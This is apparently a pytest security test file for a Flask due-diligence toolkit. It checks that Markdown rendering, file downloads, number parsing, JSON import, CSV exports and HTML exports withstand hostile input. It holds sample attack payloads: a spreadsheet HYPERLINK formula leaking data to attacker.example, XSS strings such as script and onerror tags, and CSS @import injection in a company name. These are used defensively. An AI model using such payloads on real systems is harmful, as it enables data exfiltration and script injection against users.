"""Bad input never crashes or stalls (issue 12, findings 2, 3, 4, 7 and 8): pathological Markdown
renders within its time budget, every download names its file in any script, huge and odd
numbers are refused with a message (and stored ones still render), every CSV is neutralised,
and no export carries live markup from user text."""

from __future__ import annotations

import csv
import io
import json
import time
from urllib.parse import unquote

import pytest
from flask import url_for
from sqlmodel import select

from dd_toolkit.engine import portable
from dd_toolkit.engine.content import AnswerData
from dd_toolkit.engine.content.values import MAX_NUMBER, AnswerValueError, build_answer, normalise_value
from dd_toolkit.engine.render import MAX_USER_MARKDOWN, inert_markdown, slug, user_markdown_html
from dd_toolkit.engine.reports import csv_text
from dd_toolkit.records.assessments import submit
from dd_toolkit.records.models import PlatformRole, Recipient, TransparencyEdit
from dd_toolkit.web.downloads import ascii_filename, content_disposition

from .conftest import AuthActions, Forms
from .markup import live_markup

# -- finding 2: Markdown cannot be stalled ---------------------------------------------------

BUDGET = 0.1  # seconds of CPU for one text up to its field's maximum length

PATHOLOGICAL = {
    "brackets": "[",
    "link openers": "[a(",
    "image openers": "![",
    "unclosed links": "[a](",
    "emphasis": "*a",
    "trailing emphasis": "a*",
    "nested emphasis": "***a",
    "underscores": "_a ",
    "backticks": "`",
    "code spans": "`a",
    "angle brackets": "<",
    "tags": "<a ",
    "entities": "&#",
    "nested quotes": "> ",
    "quoted lists": "> - ",
    "nested lists": "* a\n  ",
    "setext headings": "=\n",
    "rules": "-\n",
    "headings": "#\n",
    "table rows": "| a |\n|---|\n",
    "fences": "```\n",
    "backslashes": "\\",
    "autolinks": "<http://a> ",
    "one long line": "a",
    "reference links": "[a]: b\n",
}


def _cpu_seconds(text: str) -> float:
    """The best of three runs, in CPU time (other processes on a shared machine do not count);
    the cache is bypassed."""
    from dd_toolkit.engine.render import _user_markdown_to_html

    best = float("inf")
    for _ in range(3):
        start = time.process_time()
        _user_markdown_to_html(text)
        best = min(best, time.process_time() - start)
    return best


@pytest.mark.parametrize("name", list(PATHOLOGICAL))
def test_pathological_markdown_renders_within_budget(name):
    text = (PATHOLOGICAL[name] * MAX_USER_MARKDOWN)[:MAX_USER_MARKDOWN]
    _cpu_seconds("warm up " + PATHOLOGICAL[name] * 10)
    assert _cpu_seconds(text) < BUDGET, name


def test_text_over_the_limit_is_plain_text_and_fast():
    text = "[" * 200_000 + "<script>alert(1)</script>"
    start = time.process_time()
    html = str(user_markdown_html(text))
    assert time.process_time() - start < BUDGET
    assert "<script" not in html and html.startswith("<p>[[[")


def test_raw_html_shows_as_text_and_code_keeps_its_characters():
    html = str(user_markdown_html('<img src=x onerror="alert(1)"> and `a<b` and\n\n```\n<i>x</i>\n```'))
    assert "<img" not in html and "&lt;img" in html
    assert "<code>a&lt;b</code>" in html and "&lt;i&gt;x&lt;/i&gt;" in html
    assert "**bold**" not in str(user_markdown_html("**bold**")) and "<strong>bold</strong>" in str(
        user_markdown_html("**bold**")
    )


def test_transparency_draft_is_capped_and_a_long_stall_attempt_answers_fast(client, company, make, session):
    org, admin = company
    assessment = make.assessment(org, admin, answers=make.complete_answers())
    url = f"/assessments/{assessment.id}/transparency"
    too_long = Forms(client).post(url, {"markdown": "[" * (MAX_USER_MARKDOWN + 1), "base_version": "0", "save": "Save"})
    assert too_long.status_code == 422
    assert session.exec(select(TransparencyEdit)).first() is None
    saved = Forms(client).post(url, {"markdown": "[a(" * (MAX_USER_MARKDOWN // 3), "base_version": "0", "save": "Save"})
    assert saved.status_code == 302
    start = time.perf_counter()
    assert client.get(url).status_code == 200
    assert client.get(f"/assessments/{assessment.id}/transparency.html").status_code == 200
    assert time.perf_counter() - start < 10  # was minutes before the fix
    preview = Forms(client).post(f"{url}/preview", {"markdown": "[" * 200_000}, page=url)
    assert preview.status_code == 200 and len(preview.data) > 200_000


# -- finding 3: downloads in any script ------------------------------------------------------

NAMES = {
    "thai": "บริษัทไทย จำกัด",
    "vietnamese": "Công ty Việt Nam",
    "khmer": "ក្រុមហ៊ុនខ្មែរ",
    "lao": "ບໍລິສັດລາວ",
    "burmese": "မြန်မာ ကုမ္ပဏီ",
    "emoji": "Kids 🛡️ Safe 🚀",
}

# Every route that hands out a file, by endpoint, with its formats. A new download route
# fails test_every_download_route_is_listed until it is added here (and so tested).
DOWNLOADS = {
    "assess.export": ("json",),
    "outputs.action_plan_export": ("md", "html", "pdf", "csv"),
    "outputs.transparency_export": ("md", "html", "pdf"),
    "outputs.risk_assessment_export": ("md", "html", "pdf"),
    "regulator.indicators_export": ("csv", "pdf"),
    "benchmarks.export": ("csv", "pdf"),
}


@pytest.fixture
def company(make, auth):
    org = make.organisation(name="Selat Streams")
    admin = make.user(org)
    auth.login(admin.email)
    return org, admin


def _is_download(rule) -> bool:
    if rule.endpoint in ("api.openapi", "static"):
        return False
    return "<fmt>" in rule.rule or rule.rule.endswith((".json", ".csv", ".pdf", ".md", ".html"))


def test_every_download_route_is_listed(app):
    found = {rule.endpoint for rule in app.url_map.iter_rules() if _is_download(rule)}
    assert found == set(DOWNLOADS)


def _check_disposition(header: str, expected_name_part: str) -> None:
    header.encode("latin-1")  # a header any server can send
    assert header.isascii()
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback and fallback.isascii() and "/" not in fallback and "\\" not in fallback
    if expected_name_part.isascii():
        return
    assert "filename*=UTF-8''" in header
    exact = unquote(header.split("filename*=UTF-8''", 1)[1].split(";", 1)[0])
    assert expected_name_part in exact


def test_non_latin_names_download_on_every_export_route(app, client, make, session):
    companies = []
    for name in NAMES.values():
        org = make.organisation(name=name)
        admin = make.user(org)
        assessment = make.assessment(org, admin, 2026, make.complete_answers())
        submit(
            session,
            make.bank,
            make.content.current_methodology,
            assessment,
            admin,
            jurisdictions=["SG"],
            benchmark_consent=True,
        )
        companies.append((name, admin, assessment))
    auth = AuthActions(client)
    checked = set()
    for name, admin, assessment in companies:
        auth.login(admin.email)
        for endpoint in ("assess.export", "outputs.action_plan_export", "outputs.transparency_export"):
            for fmt in DOWNLOADS[endpoint]:
                with app.test_request_context():
                    args = {} if endpoint == "assess.export" else {"fmt": fmt}
                    url = url_for(endpoint, assessment_id=assessment.id, **args)
                response = client.get(url)
                assert response.status_code == 200, url
                _check_disposition(response.headers["Content-Disposition"], slug(name))
                checked.add(endpoint)
        auth.logout()
    auth.login(make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"]).email)
    for fmt in DOWNLOADS["regulator.indicators_export"]:
        response = client.get(f"/review/indicators.{fmt}?country=SG&cycle=2026")
        assert response.status_code == 200
        _check_disposition(response.headers["Content-Disposition"], f"rpa-indicators-SG-2026.{fmt}")
    checked.add("regulator.indicators_export")
    auth.logout()
    auth.login(make.user(platform_role=PlatformRole.WORKING_GROUP).email)
    for fmt in DOWNLOADS["benchmarks.export"]:
        response = client.get(f"/benchmarks/2026.{fmt}")
        assert response.status_code == 200
        _check_disposition(response.headers["Content-Disposition"], f"2026.{fmt}")
    checked.add("benchmarks.export")
    assert checked == set(DOWNLOADS) - {"outputs.risk_assessment_export"}  # needs the real methodology: below


@pytest.mark.parametrize("name", list(NAMES.values()))
def test_content_disposition_has_an_ascii_fallback_and_the_exact_name(name):
    filename = f"transparency-{slug(name)}-2026.pdf"
    header = content_disposition(filename)
    _check_disposition(header, filename)
    assert ascii_filename(filename).endswith("-2026.pdf")
    assert ascii_filename("Công ty Việt.csv") == "Cong-ty-Viet.csv"
    assert content_disposition("plain.csv") == 'attachment; filename="plain.csv"'
    assert "\n" not in content_disposition("a\nb.csv")


# -- finding 4: huge and odd numbers ---------------------------------------------------------


def question(make, qid):
    return make.bank.questions[qid]


@pytest.mark.parametrize(
    "value", ["1e30", 1e30, 10**400, "9" * 400, float("inf"), "Infinity", float("nan"), "NaN", "1_000", True]
)
def test_numbers_out_of_range_are_refused(make, value):
    with pytest.raises(AnswerValueError):
        normalise_value(question(make, "mini.ops.reports"), value)


def test_numbers_within_the_global_bound_are_kept(make):
    assert normalise_value(question(make, "mini.ops.reports"), str(MAX_NUMBER)) == MAX_NUMBER
    assert normalise_value(question(make, "mini.ops.reports"), "1,250") == 1250


@pytest.mark.parametrize("value", [True, False, float("inf"), float("nan"), "Infinity", 2.5, 10**400, "03", "٣", {}])
def test_odd_maturity_levels_are_refused(make, value):
    with pytest.raises(AnswerValueError):
        normalise_value(question(make, "mini.policy.owner"), value)


def test_maturity_levels_as_typed_are_kept(make):
    owner = question(make, "mini.policy.owner")
    assert [normalise_value(owner, v) for v in (0, 4, "3", 2.0)] == [0, 4, 3, 2]


def test_nul_characters_are_refused_in_every_text(make):
    notes = question(make, "mini.ops.notes")
    with pytest.raises(AnswerValueError):
        normalise_value(notes, "a\x00b")
    for field in ("comment", "justification"):
        with pytest.raises(AnswerValueError):
            build_answer(notes, value="ok", **{field: "a\x00b"})
    with pytest.raises(AnswerValueError):
        build_answer(notes, value="ok", evidence=[{"url": "https://a.example/\x00", "description": ""}])
    with pytest.raises(AnswerValueError):
        build_answer(question(make, "mini.ops.reports"), value=1, meta={"methodology": "a\x00"})


def test_a_huge_metric_is_refused_by_the_form(client, company, make, session):
    org, admin = company
    assessment = make.assessment(org, admin)
    url = f"/assessments/{assessment.id}/sections/mini.ops"
    response = Forms(client).post(url, {"mini-ops-reports-value": "1" + "0" * 30, "save": "Save"})
    assert response.status_code == 422
    assert "no larger than" in response.get_data(as_text=True)


def test_a_stored_huge_metric_still_renders_everywhere(client, company, make, session):
    """Values saved before the bound (1e30 once a previous cycle exists) render on every page."""
    org, admin = company
    make.submitted(org, admin, cycle=2025, answers={**make.complete_answers(), "mini.ops.reports": 1})
    assessment = make.assessment(org, admin, 2026, make.complete_answers())
    make.answer(assessment, admin, {"mini.ops.reports": AnswerData(value=1e30)})
    submission = submit(session, make.bank, make.content.current_methodology, assessment, admin, jurisdictions=["SG"])
    for url in (
        f"/assessments/{assessment.id}/transparency",
        f"/assessments/{assessment.id}/transparency.md",
        f"/assessments/{assessment.id}/transparency.html",
        f"/assessments/{assessment.id}/transparency.pdf",
        f"/assessments/{assessment.id}/results",
    ):
        assert client.get(url).status_code == 200, url
    recipient = session.exec(select(Recipient).where(Recipient.submission_id == submission.id)).one()
    AuthActions(client).logout()
    AuthActions(client).login(make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"]).email)
    assert client.get(f"/review/{recipient.id}").status_code == 200


@pytest.mark.parametrize(
    "url",
    [
        "/assessments/9223372036854775808",
        "/assessments/99999999999999999999999999999/export.json",
        "/assessments/18446744073709551616/transparency",
        "/assessments/9223372036854775808/action-plan.csv",
        "/review/9223372036854775808",
        "/api/tokens/9223372036854775808/revoke",
    ],
)
def test_ids_above_the_database_range_are_not_found(client, company, url):
    assert client.get(url).status_code == (405 if url.endswith("/revoke") else 404)
    # A POST matches no route either: 404 where the path has a POST route for a smaller id, else 405.
    assert client.post(url).status_code == (404 if url.endswith(("/revoke", "/transparency")) else 405)


def test_huge_numbers_in_query_strings_are_ignored_or_refused(client, make, auth):
    auth.login(make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"]).email)
    big = "9" * 30
    for url in (f"/review/?cycle={big}&page={big}", f"/review/indicators?country=SG&cycle={big}", "/review/?page=-1"):
        assert client.get(url).status_code == 200, url
    auth.logout()
    auth.login(make.user(platform_role=PlatformRole.WORKING_GROUP).email)
    assert client.get(f"/benchmarks/?release={big}&cycle={big}").status_code == 200


def test_api_refuses_huge_numbers_with_a_json_400_and_unknown_huge_ids_with_a_json_404(client, make, session):
    from dd_toolkit.web.api import tokens

    user = make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"])
    headers = {"Authorization": f"Bearer {tokens.create_token(session, user, 'case system')[1]}"}
    big = "9" * 30
    for url in (
        f"/api/v1/submissions?cycle={big}",
        f"/api/v1/submissions?page={big}",
        f"/api/v1/indicators?country=SG&cycle={big}",
    ):
        response = client.get(url, headers=headers)
        assert response.status_code == 400 and response.is_json, url
    response = client.get("/api/v1/submissions/9223372036854775808", headers=headers)
    assert response.status_code == 404 and response.is_json


def test_a_non_numeric_base_version_is_refused_with_a_message(client, company, make, session):
    org, admin = company
    assessment = make.submitted(org, admin, answers=make.complete_answers())
    url = f"/assessments/{assessment.id}/transparency"
    for version in ("abc", "9" * 400, "-1"):
        response = Forms(client).post(url, {"markdown": "Text", "base_version": version, "save": "Save"})
        assert response.status_code == 422, version
        assert "out of date" in response.get_data(as_text=True)
    section = Forms(client).post(
        f"/assessments/{make.assessment(org, admin, 2027).id}/sections/mini.ops",
        {"mini-ops-reports-value": "3", "mini-ops-reports-base_version": "x" * 50, "save": "Save"},
    )
    # An implausible base version reads as 0 (assess/forms.py): on a fresh assessment nothing was saved
    # before, so the answer is saved and the page redirects; over a saved answer it would be a conflict.
    assert section.status_code == 302


def test_nul_in_any_form_or_query_is_a_400(client, company, make):
    org, admin = company
    response = Forms(client).post("/organisation/profile", {"name": "Bad\x00name"}, page="/organisation/profile")
    assert response.status_code == 400
    assert client.get("/assessments/?q=a%00b").status_code == 400


def _file(make, **changes) -> bytes:
    document = {
        "format": "dd-toolkit/assessment",
        "format_version": 1,
        "organisation": {"name": "Imported"},
        "assessment": {"cycle": 2026, "status": "draft", "questionnaires": {}},
        "answers": {},
    }
    document.update(changes)
    return json.dumps(document).encode()


@pytest.mark.parametrize(
    "raw",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}",
        b'{"format": "dd-toolkit/assessment", "x": ' + b"9" * 400 + b"}",
        b'{"format": "dd-toolkit/assessment", "x": ' + b"9" * 5000 + b"}",
        b'{"format": "dd-toolkit/assessment", "x": 1e400}',
        b'{"format": "dd-toolkit/assessment", "x": Infinity}',
        b'{"format": "dd-toolkit/assessment", "x": NaN}',
    ],
    ids=["deep array", "deep value", "400 digits", "5000 digits", "1e400", "Infinity", "NaN"],
)
def test_import_refuses_deep_or_huge_json_with_a_message(make, raw):
    with pytest.raises(portable.ImportError_) as error:
        portable.parse_document(raw, make.bank)
    assert error.value.problems and all(isinstance(p, str) and p for p in error.value.problems)


@pytest.mark.parametrize(
    "answer",
    [
        {"value": float("inf")},
        {"value": True},
        {"value": 10**30},
        {"value": 2.5},
    ],
)
def test_import_refuses_odd_maturity_levels(make, answer):
    raw = _file(make, answers={"mini.policy.owner": answer}) if answer["value"] != float("inf") else None
    if raw is None:
        raw = _file(make, answers={"mini.policy.owner": {"value": 1}}).replace(b'"value": 1', b'"value": Infinity')
    with pytest.raises(portable.ImportError_):
        portable.parse_document(raw, make.bank)


def test_import_refuses_nul_and_huge_versions(make):
    for raw in (
        _file(make, organisation={"name": "A\x00B"}),
        _file(make, assessment={"cycle": 2026, "version": 10**30, "status": "draft", "questionnaires": {}}),
        _file(make, assessment={"cycle": 10**30, "status": "draft", "questionnaires": {}}),
    ):
        with pytest.raises(portable.ImportError_):
            portable.parse_document(raw, make.bank)


def test_import_page_shows_the_message_for_a_deep_file(client, company):
    response = Forms(client).post(
        "/assessments/import",
        {"file": (io.BytesIO(b"[" * 50_000), "deep.json")},
        page="/assessments/",
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert "levels deep" in response.get_data(as_text=True)


# -- finding 7: CSV formula injection --------------------------------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_writer_neutralises_formula_starts(start):
    rows = list(csv.reader(io.StringIO(csv_text(["a", "n"], [{"a": start + "1+1", "n": -5}]), newline="")))
    assert rows[1] == ["'" + start.replace("\r", "\n") + "1+1", "-5"]


def test_regulator_indicator_csv_neutralises_a_formula_company_name(client, make, session):
    org = make.organisation(name=FORMULA)
    admin = make.user(org)
    assessment = make.assessment(org, admin, 2026, make.complete_answers())
    submit(session, make.bank, make.content.methodology("standard@test.1"), assessment, admin, jurisdictions=["SG"])
    AuthActions(client).login(make.user(platform_role=PlatformRole.REGULATOR, jurisdictions=["SG"]).email)
    text = client.get("/review/indicators.csv?country=SG&cycle=2026").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_csv_goes_through_the_one_writer():
    """No module but the writer's own uses the csv module to write."""
    from pathlib import Path

    import dd_toolkit

    root = Path(dd_toolkit.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8") or "DictWriter" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["engine/reports.py"]


# -- finding 8: exports carry no raw markup --------------------------------------------------

SCRIPTED = (
    '<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n<svg onload=alert(3)>\n\n[x](javascript:alert(4))'
)


def test_markdown_export_of_an_edited_draft_has_no_raw_html(client, company, make, session):
    org, admin = company
    assessment = make.assessment(org, admin, answers=make.complete_answers())
    session.add(TransparencyEdit(assessment_id=assessment.id, markdown=SCRIPTED + "\n\n`<b>code</b>`", version=1))
    session.commit()
    markdown = client.get(f"/assessments/{assessment.id}/transparency.md").get_data(as_text=True)
    assert "<img" not in markdown and "<script" not in markdown and "<svg" not in markdown
    assert "&lt;img" in markdown and "javascript:" not in markdown
    assert "`<b>code</b>`" in markdown  # code keeps its characters
    html = client.get(f"/assessments/{assessment.id}/transparency.html").get_data(as_text=True)
    assert live_markup(html.split("<main>", 1)[1]) == []


def test_a_name_cannot_inject_css_or_markup_into_the_html_exports(client, make, auth):
    name = (
        "Acme\n} @import url(http://attacker.example/x.css); body { background: url(http://attacker.example/y) }"
        "\n</style><style>*{color:red}"
    )
    org = make.organisation(name=name[:200])
    admin = make.user(org)
    auth.login(admin.email)
    assessment = make.submitted(org, admin, answers=make.complete_answers())
    for kind in ("transparency", "action-plan"):
        html = client.get(f"/assessments/{assessment.id}/{kind}.html").get_data(as_text=True)
        style = html.split("<style>", 1)[1].split("</style>", 1)[0]
        assert "attacker.example" not in style and "@import" not in style
        assert html.count("<style>") == 1 and html.count("</style>") == 1


def test_inert_markdown_is_idempotent_for_safe_text():
    text = "# Title\n\nSome **bold** and a [link](https://example.org).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    assert inert_markdown(text) == text


def test_the_risk_record_downloads_under_a_non_latin_name(real_app, real_client, demo):
    """The risk record needs the real methodology's risk rules: KiteChat's draft register, with
    the organisation renamed in Khmer."""
    from sqlmodel import select as select_

    from dd_toolkit.records.models import Assessment, Organisation

    from . import test_headers

    org = demo.exec(select_(Organisation).where(Organisation.name == "KiteChat")).one()
    org.name = NAMES["khmer"]
    demo.add(org)
    demo.commit()
    draft = demo.exec(
        select_(Assessment).where(Assessment.organisation_id == org.id, Assessment.status == "draft")
    ).one()
    test_headers.sign_in(real_client, "admin@kitechat.example")
    for fmt in DOWNLOADS["outputs.risk_assessment_export"]:
        response = real_client.get(f"/assessments/{draft.id}/risk-assessment.{fmt}")
        assert response.status_code == 200, fmt
        _check_disposition(response.headers["Content-Disposition"], slug(NAMES["khmer"]))
